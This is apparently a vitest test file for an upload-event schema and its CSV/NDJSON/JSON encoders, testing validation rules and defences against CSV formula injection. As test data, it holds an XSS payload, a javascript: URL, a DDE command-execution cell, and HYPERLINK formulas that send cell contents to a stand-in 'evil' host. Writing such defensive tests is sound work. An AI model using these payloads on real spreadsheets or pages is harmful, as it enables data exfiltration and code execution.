import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, toCsv, toJson, toNdjson, CSV_COLUMNS } from '../../src/events/encode.js';
import { EVENTS_DOC_PATH, renderEventsDoc } from '../../scripts/events-doc.js';
import { sampleEvent, sampleHeartbeat } from '../../src/events/sample.js';
import { disputeEvent } from '../../src/events/build.js';
import {
  CHANNELS,
  EVENT_FIELDS,
  HeartbeatSchema,
  IngestBatchSchema,
  LIMITS,
  UploadEventSchema,
  describeIssues,
  type Channel as SchemaChannel,
} from '../../src/events/schema.js';
import type { Channel as MessageChannel } from '../../extension/shared/messages.js';

function errors(value: unknown): string[] {
  const r = IngestBatchSchema.safeParse(value);
  return r.success ? [] : describeIssues(r.error);
}

describe('event schema', () => {
  it('accepts a valid event and a valid heartbeat', () => {
    expect(UploadEventSchema.parse(sampleEvent())).toBeTruthy();
    expect(HeartbeatSchema.parse(sampleHeartbeat())).toBeTruthy();
  });

  it('heartbeat: the tamper-evidence fields are optional (older extensions still validate) and checked when present', () => {
    const hbErrors = (v: unknown) => {
      const r = HeartbeatSchema.safeParse(v);
      return r.success ? [] : describeIssues(r.error);
    };
    expect(hbErrors(sampleHeartbeat())).toEqual([]);
    expect(hbErrors(sampleHeartbeat({ heartbeatMinutes: 15, installType: 'admin', managed: true, incognitoAllowed: null }))).toEqual([]);
    expect(hbErrors(sampleHeartbeat({ heartbeatMinutes: 1440, installType: 'sideload', managed: false, incognitoAllowed: false }))).toEqual([]);
    expect(hbErrors(sampleHeartbeat({ heartbeatMinutes: 0 }))).toEqual(['heartbeatMinutes: must be ≥ 1']);
    expect(hbErrors(sampleHeartbeat({ heartbeatMinutes: 1441 }))).toEqual(['heartbeatMinutes: must be ≤ 1440']);
    expect(hbErrors(sampleHeartbeat({ heartbeatMinutes: 2.5 }))).toEqual(['heartbeatMinutes: expected an integer']);
    expect(hbErrors({ ...sampleHeartbeat(), installType: 'policy' })[0]).toMatch(/^installType:/);
    expect(hbErrors({ ...sampleHeartbeat(), managed: null })[0]).toMatch(/^managed:/);
    expect(hbErrors({ ...sampleHeartbeat(), managed: 'yes' })[0]).toMatch(/^managed:/);
    expect(hbErrors({ ...sampleHeartbeat(), v: 2 })).toEqual(['v: expected schema version 1']);
    expect(hbErrors({ ...sampleHeartbeat(), extra: 1 })).toEqual(['extra: unknown field']);
  });

  it('has the same channels as the extension message contract', () => {
    // Compile-time: each union is assignable to the other.
    const a: SchemaChannel = 'drop' as MessageChannel;
    const b: MessageChannel = a as SchemaChannel;
    expect(b).toBe('drop');
    expect(CHANNELS).toHaveLength(16);
  });

  it('lists every schema field in EVENT_FIELDS', () => {
    // The schema's keys, optional ones (deviceName) included: a sample event leaves those out.
    expect([...EVENT_FIELDS].sort()).toEqual(Object.keys(UploadEventSchema.shape).sort());
  });

  it('names the offending field in each error, with its batch index', () => {
    const good = sampleEvent();
    const bad = { ...sampleEvent(), sha256: 'ABC', time: '2026-11-01T09:00:00+09:00', channel: 'carrier-pigeon', size: -1 };
    const errs = errors({ events: [good, good, good, bad] });
    expect(errs).toContain('events[3].sha256: expected 64 lowercase hex characters');
    expect(errs).toContain('events[3].time: expected ISO-8601 UTC time ending in Z');
    expect(errs.some((e) => e.startsWith('events[3].channel:'))).toBe(true);
    expect(errs.some((e) => e.startsWith('events[3].size:'))).toBe(true);
  });

  it('rejects unknown fields (an excerpt is document content and has no place in an event)', () => {
    expect(errors({ events: [{ ...sampleEvent(), excerpt: '秘 Confidential …' }] })).toEqual(['events[0].excerpt: unknown field']);
    expect(errors({ events: [], extra: 1 })).toEqual(['extra: unknown field']);
  });

  it('requires every field (null, not absent)', () => {
    const { user: _user, ...noUser } = sampleEvent();
    expect(errors({ events: [noUser] })[0]).toMatch(/^events\[0\]\.user:/);
  });

  it('rejects control characters in identifiers but keeps hostile file names', () => {
    expect(errors({ events: [sampleEvent({ deviceId: 'dev\n1' })] })).toEqual(['events[0].deviceId: control characters are not allowed']);
    expect(errors({ events: [sampleEvent({ id: 'not-a-uuid' })] })).toEqual(['events[0].id: expected a UUID']);
    expect(errors({ events: [sampleEvent({ fileName: '<img src=x onerror=alert(1)>\n=HYPERLINK("x").docx' })] })).toEqual([]);
    expect(errors({ events: [sampleEvent({ fileName: 'a\u0000b' })] })).toEqual(['events[0].fileName: NUL characters are not allowed']);
  });

  it('caps string lengths and batch size', () => {
    expect(errors({ events: [sampleEvent({ fileName: 'x'.repeat(LIMITS.fileName + 1) })] })).toEqual([
      `events[0].fileName: at most ${LIMITS.fileName} characters`,
    ]);
    expect(errors({ events: [sampleEvent({ justification: 'x'.repeat(LIMITS.justification + 1) })] })).toHaveLength(1);
    const many = Array.from({ length: LIMITS.batch + 1 }, () => sampleEvent());
    expect(errors({ events: many })).toEqual([`events: at most ${LIMITS.batch} events per batch`]);
  });

  it('checks consistency: rule only with marked, relatesTo only for answers to a warning', () => {
    expect(errors({ events: [sampleEvent({ verdict: 'clean', rule: 2 })] })).toEqual(['events[0].rule: must be null unless verdict is marked']);
    expect(errors({ events: [sampleEvent({ verdict: 'marked', rule: null })] })).toEqual(['events[0].rule: required when verdict is marked']);
    const pending = sampleEvent({ action: 'warn', outcome: 'pending' });
    const answer = sampleEvent({ ...pending, id: crypto.randomUUID(), relatesTo: pending.id, outcome: 'proceeded', justification: '取引先の指示' });
    expect(errors({ events: [pending, answer] })).toEqual([]);
    expect(errors({ events: [{ ...answer, outcome: 'blocked' }] })).toEqual(["events[0].outcome: must be 'proceeded', 'cancelled' or 'disputed' when relatesTo is set"]);
  });

  it('a dispute is its own event, linked to the decision, with the optional comment capped', () => {
    const blocked = sampleEvent({ action: 'block', outcome: 'blocked' });
    const d = disputeEvent(blocked, '  ただの議事録です。秘の表示はありません  ');
    expect(d).toMatchObject({ relatesTo: blocked.id, outcome: 'disputed', justification: 'ただの議事録です。秘の表示はありません', fileName: blocked.fileName });
    expect(d.id).not.toBe(blocked.id);
    expect(errors({ events: [blocked, d, disputeEvent(blocked, null), disputeEvent(blocked, 'x'.repeat(5000))] })).toEqual([]);
    expect(disputeEvent(blocked, '   ').justification).toBeNull();
    expect(errors({ events: [{ ...d, relatesTo: null }] })).toEqual(['events[0].relatesTo: required when outcome is disputed']);
  });

  it('only accepts schema version 1 and origins that are URLs', () => {
    expect(errors({ events: [{ ...sampleEvent(), v: 2 }] })).toEqual(['events[0].v: expected schema version 1']);
    expect(errors({ events: [sampleEvent({ origin: 'javascript:alert(1)' })] })).toEqual(['events[0].origin: expected an http(s) or file URL origin']);
  });
});

describe('encodings', () => {
  const hostile = sampleEvent({ fileName: '=HYPERLINK("http://evil/?"&A1,"click")', justification: 'line1\nline2, "quoted"' });

  it('CSV: RFC 4180 quoting', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
  });

  it('CSV: formula injection defence for = + - @ TAB CR', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+81 3')).toBe("'+81 3");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tx')).toBe('"\'\tx"');
    expect(csvCell('\rx')).toBe("'[U+000D]x");
    expect(csvCell('=HYPERLINK("http://evil/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil/?""&A1,""click"")"');
    expect(csvCell('秘—設計書.docx')).toBe('秘—設計書.docx');
  });

  it('CSV: no formula after a semicolon or tab either, for a spreadsheet that splits there (red team coll7 F5)', () => {
    // RFC 4180 fields as a spreadsheet reads them with `sep` as its separator (Excel: the locale's list
    // separator, `;` in most of Europe; LibreOffice: whichever of tab, comma, semicolon is ticked).
    const fields = (line: string, sep: string) => {
      const out: string[] = [];
      let cur = '';
      let quoted = false;
      for (let i = 0; i < line.length; i++) {
        const ch = line[i]!;
        if (quoted && ch === '"' && line[i + 1] === '"') {
          cur += '"';
          i++;
        } else if (ch === '"') quoted = !quoted;
        else if (!quoted && ch === sep) {
          out.push(cur);
          cur = '';
        } else cur += ch;
      }
      return [...out, cur];
    };
    const names = ['report;=HYPERLINK("http://evil/","x").xlsx', 'a\t=1+1', 'b;+cmd|\' /C calc\'!A0', 'c; @SUM(1)', 'd\t-2'];
    const line = csvRow(names).replace(/\r\n$/, '');
    for (const sep of [',', ';', '\t']) for (const f of fields(line, sep)) expect(f, `separator ${JSON.stringify(sep)}`).not.toMatch(/^\s*[=+\-@]/);
    expect(fields(line, ',')).toEqual(names);
  });

  it('CSV: a CR that does not start a line break is shown, not obeyed: it cannot overwrite the row on a terminal (red team coll7 F14)', () => {
    const cell = csvCell('report.docx\r2026-12-01T09:00:00Z,hanako@example.co.jp,clean');
    expect(cell).toBe('"report.docx[U+000D]2026-12-01T09:00:00Z,hanako@example.co.jp,clean"');
    expect(csvCell('line one\r\nline two\nthree')).toBe('"line one\r\nline two\nthree"');
  });

  it('CSV: BOM, header, one CRLF-terminated row per event', () => {
    const csv = toCsv([hostile]);
    expect(csv.startsWith('\uFEFFv,id,relatesTo,time,')).toBe(true);
    const header = csv.slice(1).split('\r\n')[0]!.split(',');
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(csv).toContain('"\'=HYPERLINK(');
    expect(csv).toContain('"line1\nline2, ""quoted"""');
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('NDJSON: one line per event, even with line breaks in values', () => {
    const nd = toNdjson([hostile, sampleEvent({ fileName: 'a\u2028b' })]);
    const lines = nd.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(JSON.parse(lines[0]!).justification).toBe(hostile.justification);
  });

  it('JSON round-trips', () => {
    expect(JSON.parse(toJson([hostile]))).toEqual([hostile]);
  });
});

describe('docs/events.md', () => {
  it('is generated from the current schema (run: node bin/run-ts.js scripts/events-doc.ts --write)', () => {
    expect(readFileSync(EVENTS_DOC_PATH, 'utf8')).toBe(renderEventsDoc());
  });
});
